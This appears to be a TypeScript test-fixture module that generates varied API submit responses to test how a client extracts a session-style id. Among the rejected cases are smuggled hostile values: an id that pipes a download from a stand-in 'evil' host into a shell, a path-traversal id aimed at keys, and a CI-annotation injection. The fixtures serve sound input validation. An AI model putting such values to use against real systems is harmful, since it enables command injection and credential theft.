import type { RawResponse } from "../network/scripted-api.ts";

/** How a provider names the id in its response to a submit. */
export interface IdFormat {
  /** What the id belongs to: `session` */
  readonly noun: string;
  /** The field of the id: `session_id` */
  readonly key: string;
  /** The envelope of the response, if any. */
  readonly envelope?: "data";
}

/** A response to a submit, and the id in it, if any. */
type SubmitResponse = readonly [what: string, answer: RawResponse, id: string | undefined];

const uuid = "3F2504E0-4f89-41d3-9a0c-0305e82c3301";
const long = "12345678901234567890";

/**
 * Successful responses in every form: encodings of the JSON, ids, spellings of their fields, and no id at
 * all.
 */
export function submitResponses({ noun, key, envelope }: IdFormat): readonly SubmitResponse[] {
  const camel = `${noun}Id`;
  const snake = `${noun}_id`;
  const inEnvelope = (json: string) => (envelope ? `{"${envelope}":${json}}` : json);
  const plain = inEnvelope(`{"${key}":"abc_1"}`);
  const withValue = (json: string) => inEnvelope(`{"${key}":${json}}`);
  const utf16 = (text: string) => ({ bytes: Buffer.from(`\ufeff${text}`, "utf16le") });
  const typed = (type: string): RawResponse => ({ text: plain, headers: { "content-type": type } });
  const around = (text: string) => ({ text });

  const ways: readonly SubmitResponse[] = [
    ["as documented", around(plain), "abc_1"],
    ["with a byte order mark", around(`\ufeff${plain}`), "abc_1"],
    ["with a byte order mark and an empty line", around(`\ufeff\r\n${plain}`), "abc_1"],
    ["with two byte order marks", around(`\ufeff\ufeff${plain}`), "abc_1"],
    ["as UTF-16 with its mark", utf16(plain), "abc_1"],
    ["with empty lines before it", around(`\n\n${plain}`), "abc_1"],
    ["with spaces and tabs before it", around(` \t ${plain}`), "abc_1"],
    ["with no-break spaces around it", around(`\u00a0${plain}\u00a0`), "abc_1"],
    ["with empty lines after it", around(`${plain}\r\n\r\n`), "abc_1"],
    ["with a NUL after it", around(`${plain}\0`), "abc_1"],
    ["with line separators around it", around(`\u2028${plain}\u2029`), "abc_1"],
    ["over many lines", around(JSON.stringify(JSON.parse(plain), null, "\t")), "abc_1"],
    ["with its letters as JSON escapes", around(plain.replace("abc", "\\u0061\\u0062\\u0063")), "abc_1"],
    ["as text", typed("text/plain"), "abc_1"],
    ["as HTML, by its header", typed("text/html; charset=latin1"), "abc_1"],
    ["as JSON of an API", typed("application/vnd.api+json"), "abc_1"],
    ["with HTTP 201", { text: plain, status: 201 }, "abc_1"],
    ["with HTTP 202", { text: plain, status: 202 }, "abc_1"],
    ["with HTTP 203", { text: plain, status: 203 }, "abc_1"],
    ["with HTTP 207", { text: plain, status: 207 }, "abc_1"],
  ];

  const ids: readonly SubmitResponse[] = [
    ["a number", around(withValue("42")), "42"],
    ["zero", around(withValue("0")), "0"],
    ["a long number, without rounding", around(withValue(long)), long],
    ["a longer number", around(withValue(`${long}${long}`)), `${long}${long}`],
    ["a number with white space around it", around(withValue(` ${long} `)), long],
    ["a string of digits", around(withValue(`"${long}"`)), long],
    ["a string with white space around it", around(withValue('" abc_1 "')), "abc_1"],
    ["a string with a trailing line break", around(withValue('"abc_1\\n"')), "abc_1"],
    ["a UUID in any case", around(withValue(`"${uuid}"`)), uuid],
    ["a string of several parts", around(withValue('"acct:v1.2~3-4"')), "acct:v1.2~3-4"],
    ["one letter", around(withValue('"a"')), "a"],
    ["128 letters", around(withValue(`"${"a".repeat(128)}"`)), "a".repeat(128)],
    ["three dots", around(withValue('"..."')), "..."],
  ];

  const keys: readonly SubmitResponse[] = [
    ["in the style of JavaScript", around(inEnvelope(`{"${camel}":"abc_1"}`)), "abc_1"],
    ["in the style of Python", around(inEnvelope(`{"${snake}":"abc_1"}`)), "abc_1"],
    ["with ID in capitals", around(inEnvelope(`{"${noun}ID":"abc_1"}`)), "abc_1"],
    ["in upper case", around(inEnvelope(`{"${snake.toUpperCase()}":"abc_1"}`)), "abc_1"],
    ["with a hyphen", around(inEnvelope(`{"${noun}-id":"abc_1"}`)), "abc_1"],
    ["as `id`", around(inEnvelope('{"id":"abc_1"}')), "abc_1"],
    ["as a number in `id`", around(inEnvelope(`{"id":${long}}`)), long],
    ["as the id of a nested object", around(`{"${noun}":{"id":"abc_1"}}`), "abc_1"],
    ["as the id of a nested object, in data", around(`{"data":{"${noun}":{"id":"abc_1"}}}`), "abc_1"],
    ["under its documented name, without an envelope", around(`{"${snake}":"abc_1"}`), "abc_1"],
    ["under its documented name, in data", around(`{"data":{"${snake}":"abc_1"}}`), "abc_1"],
    ["in data in data", around(`{"data":{"data":{"${camel}":"abc_1"}}}`), "abc_1"],
    ["in result", around(`{"result":{"${snake}":"abc_1"}}`), "abc_1"],
    ["in a list of one", around(inEnvelope(`[{"${snake}":"abc_1"}]`)), "abc_1"],
    ["next to an error that is null", around(`{"error":null,"data":{"${snake}":"abc_1"}}`), "abc_1"],
    ["next to an error", around(`{"error":{"code":"x"},"data":{"${snake}":"abc_1"}}`), "abc_1"],
    [
      "next to ids of other objects",
      around(inEnvelope(`{"user_id":"u","id":"abc_2","${key}":"abc_1"}`)),
      "abc_1",
    ],
    ["next to the id of the request", around(`{"id":"req_1","data":{"${snake}":"abc_1"}}`), "abc_1"],
    ["after an id that is null", around(inEnvelope(`{"${snake}":null,"${camel}":"abc_1"}`)), "abc_1"],
    ["after an invalid id", around(inEnvelope(`{"${key}":"a b","id":"abc_1"}`)), "abc_1"],
  ];

  const none: readonly SubmitResponse[] = [
    ["nothing", around(""), undefined],
    ["blanks", around(" \n"), undefined],
    ["only a byte order mark", around("\ufeff"), undefined],
    ["HTML", around("<html>Welcome to the gateway</html>"), undefined],
    ["a truncated response", around(plain.slice(0, -4)), undefined],
    ["null", around("null"), undefined],
    ["a sentence", around('"queued"'), undefined],
    ["an empty object", around("{}"), undefined],
    ["an empty list", around("[]"), undefined],
    ["data that is null", around('{"data":null}'), undefined],
    ["data that is empty", around('{"data":{}}'), undefined],
    ["an id that is null", around(withValue("null")), undefined],
    ["an id that is empty", around(withValue('""')), undefined],
    ["an id of white space", around(withValue('"  "')), undefined],
    ["an id that is true", around(withValue("true")), undefined],
    ["an id that is an object", around(withValue('{"a":1}')), undefined],
    ["an id of 129 letters", around(withValue(`"${"a".repeat(129)}"`)), undefined],
    ["an id with a command", around(withValue('"a;curl evil|sh"')), undefined],
    ["an id with a path", around(withValue('"../v1/keys"')), undefined],
    ["an id that is a dot", around(withValue('"."')), undefined],
    ["an id that is two dots", around(withValue('".."')), undefined],
    ["an id with a line break in the middle", around(withValue('"a\\n::error::b"')), undefined],
    ["an id with an unpaired surrogate", around(withValue('"a\\ud800"')), undefined],
    ["the id of a user", around(`{"user":{"id":"u_1"}}`), undefined],
    ["a list of two", around(inEnvelope(`[{"${key}":"a"},{"${key}":"b"}]`)), undefined],
    ["a success without an id", around('{"code":0,"success":true,"message":"ok"}'), undefined],
    ["an empty error in a successful response", around('{"error":[]}'), undefined],
    [
      "a reference to somewhere else (HTTP 303)",
      { text: "", status: 303, headers: { location: "/x" } },
      undefined,
    ],
  ];
  return [...ways, ...ids, ...keys, ...none];
}
